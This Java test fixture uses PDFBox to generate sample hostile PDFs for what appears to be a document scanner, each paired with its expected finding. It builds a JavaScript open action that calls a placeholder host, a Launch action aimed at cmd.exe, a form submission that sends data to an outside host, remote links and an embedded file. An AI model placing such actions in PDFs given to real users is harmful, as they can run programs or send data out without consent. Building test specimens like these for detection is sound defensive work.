package vn.sokehoach.data.foreign;

import static vn.sokehoach.data.foreign.Specimen.HOST;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;

/** PDF files that would fetch, carry along or run something. */
final class HostilePdfs {

    private HostilePdfs() {}

    static List<Specimen> all() {
        return List.of(new Specimen("lien-ket-thuong.pdf", with((document, page) -> link(page, action("URI")))),
                new Specimen("mo-la-chay.pdf", with((document, page) -> {
                    catalog(document).setItem("OpenAction", action("JavaScript"));
                    COSDictionary launch = action("Launch");
                    launch.setString("F", "C:\\Windows\\cmd.exe");
                    catalog(document).setItem("AA", of("WC", launch));
                }), "SCRIPT: 2, JavaScript, cmd.exe"),
                new Specimen("mo-la-gui.pdf", with((document, page) -> {
                    catalog(document).setItem("OpenAction", action("URI"));
                    page.setItem("AA", of("O", submit()));
                }), "EXTERNAL_LINK: 2, " + HOST),
                new Specimen("sang-tep-khac.pdf", with((document, page) -> {
                    COSDictionary other = action("GoToR");
                    other.setString("F", "../khac.pdf");
                    link(page, other);
                }), "EXTERNAL_LINK: 1, khac.pdf"),
                new Specimen("bieu-mau.pdf", with((document, page) -> {
                    COSDictionary form = of("XFA", new COSString("<xdp/>"));
                    form.setItem("Fields", new COSArray());
                    catalog(document).setItem("AcroForm", form);
                }), "SCRIPT: 1, XFA"),
                new Specimen("dinh-kem.pdf", with((document, page) -> attach(document)),
                        "EMBEDDED_FILE: 1, bang.xlsx"),
                new Specimen("noi-dung-o-xa.pdf", with((document, page) -> {
                    COSDictionary file = of("FS", COSName.getPDFName("URL"));
                    file.setString("F", "http://" + HOST + "/trang");
                    ((COSDictionary) page.getDictionaryObject("Contents")).setItem("F", file);
                }), "EXTERNAL_LINK: 1, " + HOST));
    }

    /** What makes a file hostile. */
    private interface Change {
        void make(PDDocument document, COSDictionary page) throws IOException;
    }

    private static byte[] with(Change change) {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(FontName.TIMES_ROMAN), 13);
                content.newLineAtOffset(80, 600);
                content.showText("So Y te lap danh sach tram can sua trong nam");
                content.endText();
            }
            change.make(document, page.getCOSObject());
            document.save(out);
            return out.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    private static COSDictionary catalog(PDDocument document) {
        return document.getDocumentCatalog().getCOSObject();
    }

    private static COSDictionary of(String key, COSBase value) {
        COSDictionary dictionary = new COSDictionary();
        dictionary.setItem(key, value);
        return dictionary;
    }

    private static COSDictionary action(String kind) {
        COSDictionary action = of("S", COSName.getPDFName(kind));
        if (kind.equals("URI")) {
            action.setString("URI", "http://" + HOST + "/mo");
        } else if (kind.equals("JavaScript")) {
            action.setString("JS", "app.launchURL('http://" + HOST + "');");
        }
        return action;
    }

    private static COSDictionary submit() {
        COSDictionary submit = action("SubmitForm");
        submit.setItem("F", of("F", new COSString("http://" + HOST + "/nhan")));
        return submit;
    }

    private static void link(COSDictionary page, COSDictionary action) {
        COSDictionary link = of("Subtype", COSName.getPDFName("Link"));
        link.setItem("A", action);
        link.setItem("P", page);
        COSArray links = new COSArray();
        links.add(link);
        page.setItem("Annots", links);
    }

    private static void attach(PDDocument document) throws IOException {
        PDComplexFileSpecification file = new PDComplexFileSpecification();
        file.setFile("bang.xlsx");
        file.setEmbeddedFile(new PDEmbeddedFile(document,
                new ByteArrayInputStream("x".getBytes(StandardCharsets.US_ASCII))));
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of("bang", file));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        document.getDocumentCatalog().setNames(names);
    }
}
